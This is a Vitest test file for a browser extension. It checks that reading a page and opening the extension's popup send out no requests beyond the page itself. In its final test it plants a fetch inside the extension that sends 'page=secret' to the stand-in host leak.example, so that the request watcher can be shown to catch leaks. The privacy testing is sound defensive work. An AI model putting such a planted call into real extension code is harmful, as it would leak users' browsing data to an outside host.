/** Nothing about what you read leaves the device: every request of the whole browser is watched. */
import { beforeAll, expect, test } from 'vitest'
import { until } from '../harness/until.ts'
import { expectBadge, requestsSince } from '../support/browser.ts'
import { readPopup } from '../support/popup-view.ts'
import { OTHERS, PAGE } from '../support/sample.ts'
import { UNKNOWN, world } from './world.ts'

beforeAll(() => world.browser.grant(['https://*.elmoudjaweb.com/*', 'http://*.elmoudjaweb.com/*']))

/** What was asked for besides the page itself. */
const strangers = (from: number, page: string) =>
  requestsSince(world.site, from).filter(({ url }) => url !== page)

test('from page load to list nothing but the page is requested', async () => {
  const from = world.site.seen.length
  const page = await world.browser.open(PAGE.webUrl)
  await expectBadge(page, String(OTHERS.length))
  const popup = await page.pressShortcut()
  expect((await readPopup(popup)).state).toBe('story')
  expect(requestsSince(world.site, from).some(({ url }) => url === PAGE.webUrl)).toBe(true)
  expect(strangers(from, PAGE.webUrl)).toEqual([])
  await popup.close()
  await page.close()
})

test('on a page in no index nothing is requested either', async () => {
  const from = world.site.seen.length
  const page = await world.browser.open(UNKNOWN.here)
  const popup = await page.pressShortcut()
  expect((await readPopup(popup)).state).not.toBe('story')
  expect(strangers(from, UNKNOWN.here)).toEqual([])
  await popup.close()
  await page.close()
})

test.each(['https://leak.example/', 'http://leak.example/', 'https://leak.example:8443/'])(
  'the watcher sees a fetch planted in the extension to %s',
  async (leak) => {
    const from = world.site.seen.length
    await world.browser.extension.evaluate(
      `fetch('${leak}?page=secret', { mode: 'no-cors' }).then(() => 1, () => 1)`,
    )
    await until('the planted request', () =>
      requestsSince(world.site, from).some(({ url }) => url.includes('leak.example')),
    )
  },
)
